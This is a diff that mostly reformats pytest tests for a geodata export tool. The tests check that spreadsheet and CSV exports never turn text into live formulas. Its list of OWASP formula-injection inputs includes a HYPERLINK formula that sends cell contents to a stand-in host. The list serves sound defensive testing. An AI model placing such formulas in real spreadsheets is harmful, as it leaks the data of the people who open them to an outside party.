@@ -90,11 +90,14 @@ def test_xlsx_round_trip_of_a_table(dataset, tmp_path):
     assert not plan.errors and len(plan.result) == count
 
 
-@pytest.mark.parametrize("name, options, message", [
-    ("x.shp", {}, "export to .geojson"),
-    ("x.csv", {"audience": "everyone"}, "unknown audience"),
-    ("x.csv", {"encoding": "latin-1"}, "unknown encoding"),
-])
+@pytest.mark.parametrize(
+    "name, options, message",
+    [
+        ("x.shp", {}, "export to .geojson"),
+        ("x.csv", {"audience": "everyone"}, "unknown audience"),
+        ("x.csv", {"encoding": "latin-1"}, "unknown encoding"),
+    ],
+)
 def test_bad_requests_say_what_to_do(dataset, tmp_path, name, options, message):
     with pytest.raises(ExportError, match=message):
         export_layer(dataset, "villages", tmp_path / name, **options)
@@ -102,8 +105,16 @@ def test_bad_requests_say_what_to_do(dataset, tmp_path, name, options, message):
 
 
 # Texts a spreadsheet would run as formulas (OWASP's list), and one already starting with a quote.
-FORMULAS = ['=HYPERLINK("http://example.invalid/?"&B2,"详情")', "+86 139", "-2+3 户", "@SUM(A1:A9)",
-            "\t=1+2", "\r=1+2", " =1+2", "'=1+2"]
+FORMULAS = [
+    '=HYPERLINK("http://example.invalid/?"&B2,"详情")',
+    "+86 139",
+    "-2+3 户",
+    "@SUM(A1:A9)",
+    "\t=1+2",
+    "\r=1+2",
+    " =1+2",
+    "'=1+2",
+]
 
 
 def _planted(dataset):
@@ -113,8 +124,14 @@ def _planted(dataset):
 
     for name, schema in SCHEMAS.items():
         frame = dataset[name].copy()
-        texts = [f.name for f in schema.fields if f.type == "str" and not f.choices and f.name != schema.id_field
-                 and f.name not in (schema.village_field, "code", "scope")]
+        texts = [
+            f.name
+            for f in schema.fields
+            if f.type == "str"
+            and not f.choices
+            and f.name != schema.id_field
+            and f.name not in (schema.village_field, "code", "scope")
+        ]
         for column in texts:
             frame[column] = [FORMULAS[i % len(FORMULAS)] for i in range(len(frame))]
         dataset[name] = frame
@@ -148,13 +165,16 @@ def test_no_exported_spreadsheet_cell_is_a_formula(dataset, tmp_path, audience):
             rows = list(csv.reader(handle))
         assert rows[0] == header
         seen = 0
-        for row, (cells, line) in enumerate(zip(sheet.iter_rows(min_row=2), rows[1:])):
-            for cell, written in zip(cells, line):
+        for row, (cells, line) in enumerate(zip(sheet.iter_rows(min_row=2), rows[1:], strict=False)):
+            for cell, written in zip(cells, line, strict=False):
                 assert cell.data_type != "f", (layer, cell.coordinate, cell.value)
                 if header[cell.column - 1] == "persons":
                     assert cell.data_type == "n" and cell.value == -3 and written == "-3"
-                original = dataset[layer][header[cell.column - 1]].iat[row] \
-                    if header[cell.column - 1] in dataset[layer] else None
+                original = (
+                    dataset[layer][header[cell.column - 1]].iat[row]
+                    if header[cell.column - 1] in dataset[layer]
+                    else None
+                )
                 if original in FORMULAS:
                     seen += 1
                     # XML reads a carriage return back as a line feed: still no formula.
